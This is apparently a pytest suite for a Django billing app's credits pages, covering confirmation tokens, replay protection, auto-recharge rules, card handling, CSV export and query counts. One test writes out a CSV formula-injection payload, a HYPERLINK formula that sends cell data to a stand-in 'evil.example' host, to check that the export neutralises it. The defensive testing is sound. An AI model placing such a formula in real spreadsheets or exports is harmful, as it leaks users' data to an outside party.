import csv
import re
from decimal import Decimal

import django_tables2 as tables
import pytest
from django.urls import reverse
from django.utils import timezone

from billing import services
from billing.choices import AdminRole, CommerceModel, PurchaseChannel
from billing.models import AutoRechargeChange, AutoRechargePolicy, LedgerEntry, Payment, PaymentMethod, SandboxCharge
from billing.selectors import credit_account, ledger_entries
from billing.tables import LedgerEntryTable, TimeColumn
from tests.factories import CardFactory, OrganizationFactory, admin_in

pytestmark = pytest.mark.django_db(transaction=True)

CREDITS = reverse("billing:credits")
ADD_FUNDS = reverse("billing:add_funds")
AUTO = reverse("billing:auto_recharge")


def confirm_token(response):
    return re.search(r'name="token" value="([^"]+)"', response.content.decode()).group(1)


def test_a_billing_admin_adds_funds_after_a_confirmation_step(client, billing_admin, card, org):
    client.force_login(billing_admin)
    review = client.post(ADD_FUNDS, {"amount": "40.00", "payment_method": card.pk})
    assert review.status_code == 200
    assert "Confirm your purchase" in review.content.decode()
    assert not Payment.objects.exists(), "nothing is charged before the confirmation"
    done = client.post(ADD_FUNDS, {"token": confirm_token(review)})
    assert done.status_code == 302
    page = client.get(done.url)
    assert "Funds added" in page.content.decode()
    assert credit_account(org).balance == Decimal("40.00")


def test_a_double_submitted_confirmation_charges_once(client, billing_admin, card, org):
    client.force_login(billing_admin)
    token = confirm_token(client.post(ADD_FUNDS, {"amount": "40.00", "payment_method": card.pk}))
    first = client.post(ADD_FUNDS, {"token": token})
    second = client.post(ADD_FUNDS, {"token": token})
    assert first.url == second.url
    assert SandboxCharge.objects.count() == 1
    assert credit_account(org).balance == Decimal("40.00")


def test_a_tampered_confirmation_is_refused_and_charges_nothing(client, billing_admin, card):
    client.force_login(billing_admin)
    token = confirm_token(client.post(ADD_FUNDS, {"amount": "40.00", "payment_method": card.pk}))
    response = client.post(ADD_FUNDS, {"token": token[:-3] + "abc"}, follow=True)
    assert "could not be read" in response.content.decode()
    assert not Payment.objects.exists()


def test_add_funds_shows_errors_beside_the_fields(client, billing_admin, card):
    client.force_login(billing_admin)
    response = client.post(ADD_FUNDS, {"amount": "5", "payment_method": card.pk})
    assert response.status_code == 400
    assert 'id="id_amount_error"' in response.content.decode()


def test_a_confirmation_of_one_organization_cannot_be_replayed_in_another(client, card, org):
    person = admin_in(org, AdminRole.BILLING_ADMINISTRATOR)
    other = OrganizationFactory()
    admin_in(other, AdminRole.BILLING_ADMINISTRATOR, user=person)
    client.force_login(person)
    client.post(reverse("switch_organization"), {"organization": org.pk})
    token = confirm_token(client.post(ADD_FUNDS, {"amount": "40.00", "payment_method": card.pk}))
    client.post(reverse("switch_organization"), {"organization": other.pk})
    assert client.post(ADD_FUNDS, {"token": token}).status_code == 404
    assert not Payment.objects.exists()


@pytest.mark.parametrize(
    "attrs, text",
    [
        ({"commerce_model": CommerceModel.NCE}, "billed after use"),
        ({"purchase_channel": PurchaseChannel.CSP}, "Cloud Solution Provider"),
        ({"purchase_channel": PurchaseChannel.VOLUME_LICENSING, "country": "DE", "billing_region": "US"}, "support ticket"),
    ],
)
def test_blocked_organizations_see_the_reason_and_the_way_forward(client, attrs, text):
    org = OrganizationFactory(**attrs)
    admin = admin_in(org, AdminRole.GLOBAL_ADMINISTRATOR)
    card = CardFactory(organization=org)
    client.force_login(admin)
    page = client.get(CREDITS).content.decode()
    assert text in page and "What you can do" in page
    assert client.get(ADD_FUNDS).status_code == 403
    assert client.post(ADD_FUNDS, {"amount": "40.00", "payment_method": card.pk}).status_code == 403


def test_an_nce_organization_with_auto_recharge_on_gets_a_one_click_turn_off(client):
    org = OrganizationFactory(commerce_model=CommerceModel.NCE)
    admin = admin_in(org, AdminRole.BILLING_ADMINISTRATOR)
    card = CardFactory(organization=org)
    account = credit_account(org)
    AutoRechargePolicy.objects.filter(account=account).update(enabled=True, amount=50, trigger=10, payment_method=card)
    client.force_login(admin)
    turn_off = reverse("billing:turn_off_auto_recharge")
    assert turn_off in client.get(CREDITS).content.decode()
    client.post(turn_off)
    account.refresh_from_db()
    assert not account.auto_recharge_policy.enabled
    assert turn_off not in client.get(CREDITS).content.decode()
    assert AutoRechargeChange.objects.filter(account=account, changed_by=admin).exists()


def test_an_nce_organization_cannot_turn_auto_recharge_on(client, card):
    org = card.organization
    org.commerce_model = CommerceModel.NCE
    org.save()
    admin = admin_in(org, AdminRole.BILLING_ADMINISTRATOR)
    client.force_login(admin)
    response = client.post(AUTO, {"enabled": "on", "recharge_amount": "50", "recharge_trigger": "10", "payment_method": card.pk})
    assert response.status_code == 400
    assert not credit_account(org).auto_recharge_policy.enabled


def test_auto_recharge_settings_are_validated_and_audited(client, billing_admin, card, org):
    client.force_login(billing_admin)
    bad = client.post(AUTO, {"enabled": "on", "recharge_amount": "50", "recharge_trigger": "60", "payment_method": card.pk})
    assert bad.status_code == 400 and "lower than the recharge amount" in bad.content.decode()
    too_small = client.post(AUTO, {"enabled": "on", "recharge_amount": "1", "recharge_trigger": "0.5", "payment_method": card.pk})
    assert too_small.status_code == 400
    no_card = client.post(AUTO, {"enabled": "on", "recharge_amount": "50", "recharge_trigger": "10"})
    assert no_card.status_code == 400 and "Choose the card" in no_card.content.decode()
    ok = client.post(
        AUTO, {"enabled": "on", "recharge_amount": "50", "recharge_trigger": "10", "payment_method": card.pk, "confirm_charge": "1"}
    )
    assert ok.status_code == 302
    account = credit_account(org)
    assert account.auto_recharge_policy.enabled and account.auto_recharge_policy.amount == Decimal("50.00")
    change = AutoRechargeChange.objects.get(account=account)
    assert change.changed_by == billing_admin
    assert change.old["enabled"] is False and change.new["enabled"] is True and change.new["recharge_trigger"] == "10.00"
    page = client.get(CREDITS).content.decode()
    assert "Auto recharge changes" in page and billing_admin.get_full_name() in page


def test_a_card_is_added_without_its_number_ever_stored_or_echoed(client, billing_admin, org):
    client.force_login(billing_admin)
    response = client.post(reverse("billing:add_card"), {"number": "4242 4242 4242 4242", "exp_month": 4, "exp_year": 2032, "cvc": "123"})
    assert response.status_code == 302
    assert PaymentMethod.objects.get(organization=org).last4 == "4242"
    refused = client.post(reverse("billing:add_card"), {"number": "4000000000000069", "exp_month": 4, "exp_year": 2032, "cvc": "123"})
    assert refused.status_code == 400
    body = refused.content.decode()
    assert "expired" in body and "4000000000000069" not in body


def test_the_card_auto_recharge_uses_cannot_be_removed(client, billing_admin, card, org):
    services.update_auto_recharge(organization=org, actor=billing_admin, enabled=True, amount=50, trigger=10, payment_method=card)
    client.force_login(billing_admin)
    client.post(reverse("billing:remove_payment_method", args=[card.pk]))
    card.refresh_from_db()
    assert card.removed_at is None


def test_transactions_can_be_filtered_and_exported(client, billing_admin, funded_account):
    services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo="Call to +44")
    client.force_login(billing_admin)
    page = client.get(reverse("billing:transactions"), {"kind": "usage_charge"}).content.decode()
    table = page.split("<tbody")[1]
    assert "Call to +44" in table and "Funding" not in table
    export = client.get(reverse("billing:transactions"), {"kind": "usage_charge", "export": "csv"})
    rows = list(csv.reader(b"".join(export.streaming_content).decode().splitlines()))
    assert rows[0] == ["Date (UTC)", "Type", "Description", "Amount", "Balance", "Currency", "Receipt"]
    assert len(rows) == 2 and rows[1][1:] == ["Usage charge", "Call to +44", "-3.50", "96.50", "USD", ""]
    everything = client.get(reverse("billing:transactions"), {"export": "csv"})
    funding = list(csv.reader(b"".join(everything.streaming_content).decode().splitlines()))[-1]
    receipt = funded_account.receipts.get()
    assert funding[1:] == ["Funding", funding[2], "100.00", "100.00", "USD", receipt.number]


def test_the_transactions_page_links_each_receipt_and_leaves_entries_without_one_blank(client, billing_admin, funded_account):
    services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo="Call to +44")
    receipt = funded_account.receipts.get()
    client.force_login(billing_admin)
    table = client.get(reverse("billing:transactions")).content.decode().split("<tbody")[1].split("</tbody>")[0]
    rows = table.split("</tr>")[:-1]
    assert len(rows) == 2
    link = f'<a href="{reverse("billing:receipt", args=[receipt.number])}">{receipt.number}</a>'
    funding, = [row for row in rows if "Funding" in row]
    charge, = [row for row in rows if "Call to +44" in row]
    assert link in funding and "<a " not in charge


def test_the_transactions_csv_writes_a_formula_in_a_description_as_text_and_amounts_as_numbers(client, billing_admin, funded_account):
    memo = '=HYPERLINK("https://evil.example/?"&A1,"Receipt")'
    services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo=memo)
    services.charge_usage(account_id=funded_account.pk, amount=Decimal("1.00"), idempotency_key="call-2", memo="-1+1")
    client.force_login(billing_admin)
    export = client.get(reverse("billing:transactions"), {"kind": "usage_charge", "export": "csv"})
    rows = list(csv.reader(b"".join(export.streaming_content).decode().splitlines()))
    by_amount = {row[3]: row for row in rows[1:]}
    # The quote of billing.formulas: a spreadsheet shows the text and runs nothing; amounts stay numbers.
    assert by_amount["-3.50"][2] == "'" + memo and by_amount["-3.50"][4] == "96.50"
    assert by_amount["-1.00"][2] == "'-1+1"


def test_the_credits_page_issues_a_bounded_number_of_queries(client, billing_admin, card, org, django_assert_max_num_queries):
    for i in range(30):
        services.fund_credits(organization=org, actor=billing_admin, amount=Decimal("10"), payment_method=card, idempotency_key=f"q{i}")
    for i in range(10):
        CardFactory(organization=org, last4=f"{1000 + i}")
    client.force_login(billing_admin)
    with django_assert_max_num_queries(20):
        assert client.get(CREDITS).status_code == 200
    with django_assert_max_num_queries(15) as queries:
        page = client.get(reverse("billing:transactions"))
    assert page.status_code == 200
    # Paged by the table alone: one COUNT (the view paged the same rows again, with a COUNT of its own).
    assert len([q for q in queries.captured_queries if q["sql"].startswith("SELECT COUNT(")]) == 1
    assert page.content.decode().split("<tbody")[1].count("<tr") == 25


def test_the_credits_page_reads_the_accounts_latest_receipts_by_its_index(client, billing_admin, card, org, django_assert_max_num_queries):
    """The five newest receipts of this account, read by account (receipt_account_recent_idx serves that
    order): the query that joined every receipt to its organization read and sorted them all, a cost
    that grew with each funding. Another organization's newer receipts are never among them."""
    other = OrganizationFactory()
    other_admin = admin_in(other, AdminRole.BILLING_ADMINISTRATOR)
    other_card = CardFactory(organization=other)
    for i in range(7):
        services.fund_credits(organization=org, actor=billing_admin, amount=Decimal(10 + i), payment_method=card, idempotency_key=f"r{i}")
    services.fund_credits(organization=other, actor=other_admin, amount=Decimal("99"), payment_method=other_card, idempotency_key="theirs")
    client.force_login(billing_admin)
    with django_assert_max_num_queries(20) as queries:
        page = client.get(CREDITS)
    shown = [r.amount for r in page.context["overview"].recent_receipts]
    assert shown == [Decimal(16), Decimal(15), Decimal(14), Decimal(13), Decimal(12)]
    receipt_reads = [q["sql"] for q in queries.captured_queries if 'FROM "billing_receipt"' in q["sql"]]
    assert len(receipt_reads) == 1
    assert '"billing_receipt"."account_id" = ' in receipt_reads[0] and "JOIN" not in receipt_reads[0]


def test_the_add_funds_page_reads_the_payment_methods_once_for_its_form(client, billing_admin, card, org, django_assert_max_num_queries):
    """The form offers every active card, the newest chosen, from one read of them (the overview's list
    beside it is the other): Django's choices asked the database again for the initial choice, the
    template's test and the radio buttons, the last through a server-side cursor."""
    removed = CardFactory(organization=org, last4="1111", removed_at=timezone.now())
    newest = CardFactory(organization=org, last4="4242")
    client.force_login(billing_admin)
    with django_assert_max_num_queries(14) as queries:
        page = client.get(ADD_FUNDS)
    html = page.content.decode()
    reads = [q["sql"] for q in queries.captured_queries if 'FROM "billing_paymentmethod"' in q["sql"]]
    assert len(reads) == 2
    offered = re.findall(r'<input type="radio" name="payment_method" value="(\d+)"([^>]*)>', html)
    assert sorted(int(pk) for pk, _ in offered) == sorted([card.pk, newest.pk])
    assert [int(pk) for pk, rest in offered if " checked" in rest] == [newest.pk]
    assert str(removed.pk) not in [pk for pk, _ in offered]


def test_the_add_funds_page_without_a_payment_method_asks_for_one_first(client, billing_admin, org):
    client.force_login(billing_admin)
    html = client.get(ADD_FUNDS).content.decode()
    assert "Add a payment method first" in html and 'name="payment_method"' not in html
    assert "to turn auto recharge on" in client.get(AUTO).content.decode()


def test_saving_settings_that_would_charge_at_once_asks_first(client, billing_admin, card, org):
    client.force_login(billing_admin)
    fields = {"enabled": "on", "recharge_amount": "50", "recharge_trigger": "10", "payment_method": card.pk}
    ask = client.post(AUTO, fields)
    assert ask.status_code == 200
    assert "Saving will charge your card now" in ask.content.decode()
    assert not credit_account(org).auto_recharge_policy.enabled
    assert not Payment.objects.exists()
    done = client.post(AUTO, {**fields, "confirm_charge": "1"}, follow=True)
    assert "was charged right away" in done.content.decode()
    account = credit_account(org)
    assert account.auto_recharge_policy.enabled and account.balance == Decimal("50.00")


def test_the_time_column_shows_what_the_datetimecolumn_of_django_tables2_shows(funded_account):
    class Both(tables.Table):
        ours = TimeColumn(accessor="created_at", format="Y-m-d H:i")
        theirs = tables.DateTimeColumn(accessor="created_at", format="Y-m-d H:i")

    for zone in ("UTC", "America/Los_Angeles"):
        with timezone.override(zone):
            row = Both(LedgerEntry.objects.filter(account=funded_account)).rows[0]
            assert str(row.get_cell("ours")) == str(row.get_cell("theirs")) != ""
            assert row.get_cell_value("ours") == row.get_cell_value("theirs")


def table_body(html):
    """A table's <tbody>, with the whitespace that templates leave between tags and attributes removed."""
    body = html[html.index("<tbody"):html.index("</tbody>") + len("</tbody>")]
    return re.sub(r"\s+>", ">", re.sub(r">\s+<", "><", re.sub(r"\s+", " ", body)))


def test_the_transactions_body_joined_in_python_is_the_body_django_tables2_renders(rf, billing_admin, funded_account, org):
    services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo="Call to <b>+44</b> & co")
    services.charge_usage(account_id=funded_account.pk, amount=Decimal("1.25"), idempotency_key="call-2", memo="")
    request = rf.get(reverse("billing:transactions"), {"sort": "amount"})
    request.user = billing_admin
    ours = LedgerEntryTable(ledger_entries(org))
    theirs = LedgerEntryTable(ledger_entries(org), template_name="django_tables2/table.html")
    for table in (ours, theirs):
        tables.RequestConfig(request, paginate={"per_page": 25}).configure(table)
    fast = table_body(ours.fast_tbody())
    assert fast.count("<tr") == 3 and "&lt;b&gt;" in fast and "—" in fast and "/billing/receipts/" in fast
    assert fast == table_body(theirs.as_html(request))
    assert table_body(ours.as_html(request)) == fast, "the page's template uses it"
